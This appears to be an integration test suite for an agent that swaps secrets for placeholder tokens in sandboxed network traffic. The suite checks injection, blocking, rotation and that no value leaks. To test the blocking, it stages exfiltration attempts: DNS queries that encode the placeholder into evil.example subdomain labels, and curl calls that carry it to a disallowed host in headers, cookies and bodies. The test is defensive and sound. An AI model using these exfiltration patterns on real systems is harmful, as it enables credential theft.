/**
 * Secrets from a guest on a real tap, with curl, against real servers and a running agent: rows A55, A57–A59 and tests 32, 33, 36, 38,
 * 39 of a placeholder's way. What is put where in detail is in test/unit/secrets-*.test.ts.
 */
import { chmodSync, closeSync, openSync, readFileSync, readSync, renameSync, rmSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { assertNowhere } from "../lib/secrets.js";
import { ADDRESS, type Service, until, type World } from "../lib/world.mjs";
import { TestAgent } from "./daemon.js";
import "./stage.js"; // its bounds for tests and hooks
import { openWorld, tell } from "./tls-world.js";

const VALUE = "ghp_realvalue0123456789abcdefghijklmnopq", ROTATED = "ghp_rotatedvalue9876543210zyxwvutsrqpon";
/** Whether a process has an octet string anywhere in memory that can be read. */
function memoryHolds(pid: number, text: string): boolean {
  const wanted = Buffer.from(text), file = openSync(`/proc/${pid}/mem`, "r");
  try {
    for (const line of readFileSync(`/proc/${pid}/maps`, "latin1").split("\n")) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (from === undefined) continue;
      // A region may be larger than a buffer; pieces overlap by the text's length.
      for (let at = parseInt(from, 16), end = parseInt(to as string, 16); at < end; at += CHUNK) {
        const octets = Buffer.alloc(Math.min(CHUNK + wanted.length, end - at));
        let read = 0;
        try {
          read = readSync(file, octets, 0, octets.length, at);
        } catch {
          break; // reserved only
        }
        if (octets.subarray(0, read).includes(wanted)) return true;
      }
    }
    return false;
  } finally {
    closeSync(file);
  }
}
const CHUNK = 16 << 20;
const METRICS = "127.0.0.1:9470";
const NAMES = ["shop.example", "tenant.example", "bank.example"];

describe("secrets", () => {
  let world: World, origin: Service, agent: TestAgent, watcher: Awaited<ReturnType<TestAgent["watch"]>>;
  let ca = "", file = "", placeholder = "";
  const answers: string[] = [];

  const policy = (extra = "", onViolation = "block"): string => `
rules:
  - {allow: shop.example}
  - {allow: tenant.example}
  - {allow: bank.example}
tls: {intercept: true, upstream_ca: [root.pem], bypass: [bank.example]}
${extra === "none" ? "" : `secrets:
  TOKEN:
    from: {file: token}
    allowed_hosts: [shop.example]
    placeholder: {prefix: ghp_}
    inject: {query: true, headers: [authorization, x-api-key]}
    on_violation: ${onViolation}
${extra}`}`;
  const request = (text: string) => ({ file: { path: path.join(world.dir, "policy.yaml"), text } });
  async function curl(name: string, ...args: string[]): Promise<{ out: string; status: string }> {
    const [, target = "/"] = /^https?:\/\/[^/]*(\/.*)?$/.exec(args.at(-1) as string) ?? [];
    void target;
    const resolve = [443, 80].flatMap((port) => ["--resolve", `${name}:${port}:${ADDRESS.site4}`]);
    const { stdout, stderr } = await world.guest.run(["curl", "-sS", "--max-time", "10", "--cacert", ca, ...resolve, "-w", "\n%{http_code}", ...args], { timeoutMs: 20_000 });
    answers.push(stdout, stderr);
    const at = stdout.lastIndexOf("\n");
    return { out: stdout.slice(0, at), status: stdout.slice(at + 1) };
  }
  const seen = (): { host: string; url: string; headers: Record<string, string> }[] => origin.lines.filter((line) => line.startsWith("{")).map((line) => JSON.parse(line) as never);

  beforeAll(async () => {
    ({ world, origin } = await openWorld());
    file = path.join(world.dir, "token");
    writeFileSync(file, `${VALUE}\n`, { mode: 0o600 });
    agent = await TestAgent.start(world, `metrics: ${METRICS}\n`);
    watcher = await agent.watch();
    await agent.client.attach({ tap: "tap0", policy: request(policy()) });
    for (const name of NAMES) await tell(world, name);
    ca = path.join(world.runDir, "agent", "tap0.ca.pem");
    placeholder = (await agent.client.secrets("tap0")).environment["TOKEN"] as string;
  });
  afterAll(async () => {
    await watcher?.end().catch(() => undefined);
    await agent?.service.stop();
    await world?.close();
  });

  test("`enforcer secrets` gives placeholders only, of the shape asked for; the file that keeps them is closed to others", async () => {
    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(await agent.run("secrets", "tap0")).toEqual({ status: 0, out: `TOKEN=${placeholder}\n`, err: "" });
    expect(statSync(path.join(world.runDir, "agent", "tap0.placeholders")).mode & 0o777).toBe(0o600);
  });

  test.each(["--http1.1", "--http2"])("32: the value arrives at the allowed host; the guest, asking for an echo, gets the placeholder (%s)", async (version) => {
    const { out, status } = await curl("shop.example", version, "-H", `Authorization: Bearer ${placeholder}`, `https://shop.example/echo?k=${placeholder}`);
    expect(status).toBe("200");
    expect(out).toBe(`origin shop.example /echo?k=${placeholder}`);
    const last = seen().at(-1);
    expect(last?.headers["authorization"]).toBe(`Bearer ${VALUE}`);
    expect(last?.url).toBe(`/echo?k=${VALUE}`);
  });

  test.each(["--http1.1", "--http2"])("33, A55: at another host it is stopped, with the secret's name; nothing arrives (%s)", async (version) => {
    const before = seen().length;
    for (const args of [["-H", `Authorization: Bearer ${placeholder}`], ["-u", `user:${placeholder}`], ["-H", `Cookie: a=${placeholder}`], ["--data-binary", `{"k":"${placeholder}"}`], ["-A", Buffer.from(placeholder).toString("base64")]]) {
      const { out, status } = await curl("tenant.example", version, ...args, "https://tenant.example/x");
      expect(status).toBe("403");
      expect(out).toContain("secret TOKEN");
    }
    expect(seen().length).toBe(before);
    await watcher.seen({ event: "tls-denied", reason: "secret", name: "tenant.example" });
  });

  test("A55: in the labels of a DNS question it is a violation: nothing goes upstream, each question is told and counted", async () => {
    const hex = Buffer.from(placeholder).toString("hex");
    const names = [`${placeholder.replaceAll("_", "-")}.evil.example`, `${placeholder.toUpperCase()}.evil.example`, `x${placeholder.slice(0, 20)}.${placeholder.slice(20)}.shop.example`, `${hex.slice(0, 60)}.${hex.slice(60)}.evil.example`];
    const questions = async (): Promise<string> => (await world.host.run(["curl", "-sS", `http://${METRICS}/metrics`])).stdout.split("\n").find((line) => line.startsWith("enforcer_dns_queries_total") && line.includes('outcome="secret"')) ?? "0";
    for (const transport of ["udp", "tcp"]) for (const name of names) expect(await world.guest.probe(["dns", transport, "8.8.8.8", name, "A"], 10_000)).toMatchObject({ rcode: "NXDOMAIN" });
    expect(await questions()).toMatch(/ 8$/);
    const told = await watcher.seen({ event: "tls-denied", reason: "secret", port: 53 });
    expect(JSON.stringify(told)).toContain("secret TOKEN");
    // By its name it is not known to anybody outside the agent and the guest.
    await until("all of them", () => watcher.events.filter((event) => event["port"] === 53).length === 8);
    expect(JSON.stringify(watcher.events).toLowerCase()).not.toContain(placeholder.toLowerCase());
  });

  test("A57: over plain HTTP, to its own host, and where it is not declared, it is stopped too", async () => {
    expect((await curl("shop.example", "-H", `Authorization: Bearer ${placeholder}`, "http://shop.example/")).status).toBe("403");
    expect((await curl("shop.example", "-H", `X-Debug: ${placeholder}`, "https://shop.example/")).status).toBe("403");
  });

  test("a value that the guest knows is stopped anywhere", async () => {
    for (const name of ["shop.example", "tenant.example"]) expect((await curl(name, "-H", `X-A: ${VALUE}`, `https://${name}/`)).status).toBe("403");
    answers.length = 0; // curl has said it itself
  });

  test("a bypassed host gets the placeholder and never the value", async () => {
    ca = path.join(world.dir, "root.pem");
    expect((await curl("bank.example", "-H", `Authorization: ${placeholder}`, "https://bank.example/")).status).toBe("200");
    ca = path.join(world.runDir, "agent", "tap0.ca.pem");
    expect(seen().at(-1)?.headers["authorization"]).toBe(placeholder);
  });

  test("38: rotation without restart, also on an open connection", async () => {
    const next = path.join(world.dir, "token.new");
    // Both requests of one curl use one connection; between them the file is replaced.
    const client = world.guest.start([process.execPath, "-e", `
      const session = require("node:http2").connect("https://shop.example", { ca: require("node:fs").readFileSync("${ca}"), lookup: (_n, o, done) => o.all ? done(null, [{ address: "${ADDRESS.site4}", family: 4 }]) : done(null, "${ADDRESS.site4}", 4) });
      const ask = () => { const stream = session.request({ authorization: "${placeholder}", ":path": "/rotation" }); stream.on("response", (headers) => console.log("status " + headers[":status"])); stream.resume(); stream.end(); };
      ask();
      process.stdin.on("data", ask);`]);
    await client.line((line) => line === "status 200");
    expect(seen().at(-1)?.headers["authorization"]).toBe(VALUE);
    writeFileSync(next, ROTATED, { mode: 0o600 });
    renameSync(next, file);
    await until("the new value", async () => {
      client.write("\n");
      await new Promise((resolve) => setTimeout(resolve, 300));
      return seen().at(-1)?.headers["authorization"] === ROTATED;
    }, 20_000);
    // A59: nor anywhere in the guest's memory. The agent's own holds it, as it must.
    for (const value of [VALUE, ROTATED]) expect(memoryHolds(client.pid!, value)).toBe(false);
    expect(memoryHolds(client.pid!, placeholder)).toBe(true);
    await client.stop();
  });

  test("a source that others can read: refused at attach and at a swap, with the place; the former policy stays", async () => {
    chmodSync(file, 0o644);
    await expect(agent.client.setPolicy("tap0", request(policy("  SECOND: {from: {file: token}, allowed_hosts: [shop.example]}\n")))).rejects.toMatchObject({ code: "E_SECRET", message: expect.stringMatching(/SECOND.*open to others/) as unknown });
    chmodSync(file, 0o600);
    expect((await curl("shop.example", "-H", `Authorization: ${placeholder}`, "https://shop.example/")).status).toBe("200");
  });

  test("A05, 38: a killed agent's successor knows the placeholder; a removed secret's is a violation at once", async () => {
    await watcher.end().catch(() => undefined);
    await agent.kill();
    await agent.restart();
    watcher = await agent.watch();
    for (const name of NAMES) await tell(world, name);
    expect((await agent.client.secrets("tap0")).environment["TOKEN"]).toBe(placeholder);
    expect((await curl("shop.example", "-H", `Authorization: ${placeholder}`, "https://shop.example/")).status).toBe("200");
    await agent.client.setPolicy("tap0", request(policy("none")));
    expect((await agent.client.secrets("tap0")).environment).toEqual({});
    const before = seen().length;
    expect((await curl("shop.example", "-H", `Authorization: ${placeholder}`, "https://shop.example/")).status).toBe("403");
    expect(seen().length).toBe(before);
    await agent.client.setPolicy("tap0", request(policy()));
  });

  test("A59, 39: no value in anything that the agent wrote or serves, nor in its environment and command line, nor in what the guest got", async () => {
    const { client } = agent;
    const pid = agent.service.pid;
    const texts: Record<string, string> = {
      log: agent.service.report(), guest: answers.join("\n"), events: JSON.stringify(watcher.events), status: JSON.stringify(await client.status()), sandbox: JSON.stringify(await client.sandbox("tap0")),
      policy: JSON.stringify(await client.policy("tap0")), secrets: JSON.stringify(await client.secrets("tap0")), check: (await agent.run("policy", "show", "tap0")).out,
      environ: readFileSync(`/proc/${pid}/environ`, "latin1"), cmdline: readFileSync(`/proc/${pid}/cmdline`, "latin1"),
    };
    texts["metrics"] = (await world.host.run(["curl", "-sS", `http://${METRICS}/metrics`])).stdout;
    expect(texts["metrics"]).toContain('enforcer_secrets_total{sandbox="tap0",secret="TOKEN",event="injected"}');
    texts["explain"] = (await agent.run("explain", "tap0", "shop.example:443")).out;
    texts["flows"] = (await agent.run("flows", "tap0")).out;
    for (const value of [VALUE, ROTATED]) assertNowhere(value, { files: [world.runDir], texts });
    // The search itself finds what is there.
    expect(() => assertNowhere(ROTATED, { files: [file] })).toThrow(/token/);
  });

  test("on_violation: terminate cuts the sandbox off, and it stays so until somebody gives it another policy", async () => {
    await agent.client.setPolicy("tap0", request(policy("", "terminate")));
    await curl("tenant.example", "-H", `Authorization: ${placeholder}`, "https://tenant.example/").catch(() => undefined);
    await agent.notice(/tap0 is cut off: the placeholder of secret TOKEN/);
    await until("a policy that denies all", async () => (await agent.client.policy("tap0")).request?.no_net === true);
    expect((await curl("shop.example", "https://shop.example/")).status).toBe("000");
    await agent.client.setPolicy("tap0", request(policy()));
    await tell(world, "shop.example");
    expect((await curl("shop.example", "-H", `Authorization: ${placeholder}`, "https://shop.example/")).status).toBe("200");
    rmSync(file, { force: true });
  });
});
